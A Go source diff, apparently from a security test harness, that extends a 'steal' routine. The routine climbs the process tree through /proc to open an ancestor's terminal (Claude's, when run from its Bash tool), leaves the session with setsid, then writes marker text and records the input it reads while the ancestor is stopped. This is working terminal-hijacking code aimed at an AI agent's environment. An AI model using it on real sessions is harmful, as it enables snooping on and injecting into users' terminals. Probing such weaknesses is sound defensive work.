@@ -107,18 +107,29 @@ func tui(string) error {
 }
 
 // steal FD:OUT is the attack on the terminal: it opens the terminal of its
-// parent (Claude, or what stands in for it) through /proc/PID/fd/FD and
-// leaves the session (setsid), so that no job control applies to it. Once
-// its parent has stopped, it records "saw the stop" in OUT and, until its
-// parent runs again ("saw the resume"), writes
-// "THIEF-WROTE-WHILE-STOPPED" to that terminal every 50 ms and records
-// everything it can read from it as "read while stopped: ...".
+// nearest ancestor that has one as descriptor FD (its parent, for the
+// stand-in interface; Claude, for a command Claude's Bash tool runs)
+// through /proc/PID/fd/FD, and leaves the session (setsid), so that no job
+// control applies to it. Once that ancestor has stopped, it records "saw
+// the stop" in OUT and, until the ancestor runs again ("saw the resume"),
+// writes "THIEF-WROTE-WHILE-STOPPED" to that terminal every 50 ms and
+// records everything it can read from it as "read while stopped: ...".
 func steal(arg string) error {
 	fdName, out, _ := strings.Cut(arg, ":")
-	pid := fmt.Sprint(os.Getppid())
-	fd, err := unix.Open("/proc/"+pid+"/fd/"+fdName, unix.O_RDWR|unix.O_NOCTTY, 0)
-	if err != nil {
-		return err
+	pid, fd := "", -1
+	for p := os.Getppid(); p > 1 && fd < 0; p = parentOf(p) {
+		f, err := unix.Open(fmt.Sprintf("/proc/%d/fd/%s", p, fdName), unix.O_RDWR|unix.O_NOCTTY, 0)
+		if err != nil {
+			continue
+		}
+		if _, err := unix.IoctlGetTermios(f, unix.TCGETS); err != nil {
+			unix.Close(f)
+			continue
+		}
+		pid, fd = fmt.Sprint(p), f
+	}
+	if fd < 0 {
+		return fmt.Errorf("no ancestor has a terminal as descriptor %s", fdName)
 	}
 	if _, err := unix.Setsid(); err != nil {
 		return err
@@ -164,4 +175,19 @@ func steal(arg string) error {
 			}
 		}
 	}
+}
+
+// parentOf is a process's parent, or 0.
+func parentOf(pid int) int {
+	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
+	if err != nil {
+		return 0
+	}
+	fields := strings.Fields(string(b[strings.LastIndexByte(string(b), ')')+1:]))
+	if len(fields) < 2 {
+		return 0
+	}
+	var ppid int
+	fmt.Sscan(fields[1], &ppid)
+	return ppid
 }
